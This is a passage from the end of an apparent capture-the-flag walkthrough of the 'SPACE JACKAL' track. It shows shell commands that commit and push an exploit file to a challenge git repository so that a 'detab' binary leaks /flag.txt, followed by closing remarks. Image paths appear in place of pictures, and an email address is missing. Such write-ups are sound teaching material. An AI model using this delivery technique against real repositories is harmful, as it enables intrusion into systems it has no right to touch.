Next we add the payload to therepo, commit and push it to the challenge repository:

$ cd hashfunctions; mv /tmp/tabnabbed_sploit.dat .
$ git add tabnabbed_sploit.dat; git commit -m "foo"; git push
[master 7aa815e] foo
 1 file changed, 0 insertions(+), 0 deletions(-)
 create mode 100644 tabnabbed_sploit.dat
Enumerating objects: 4, done.
Counting objects: 100% (4/4), done.
Delta compression using up to 16 threads
Compressing objects: 100% (3/3), done.
Writing objects: 100% (3/3), 317 bytes | 317.00 KiB/s, done.
Total 3 (delta 0), reused 0 (delta 0), pack-reused 0
remote: 040 == 32 == 0x20!
To tabnabbed:hashfunctions.git
   91d85fd..7aa815e  master -> master

The detab binary is exploited and prints the content of /flag.txt. The output is then written back to the file it processed:

The file now contains the flag, proving that our exploit worked.

Final Remarks

This concludes our journey through the SPACE JACKAL challenge track. We hope you enjoyed the game. Make sure to check out the CATAPULT SPIDER challenges, and stay tuned for our walkthrough of the PROTECTIVE PENGUIN track. If you have any questions, feel free to email us at (Also note that we are looking for a Sr. Security Researcher to join the team.)

AdditionalResources

Related Content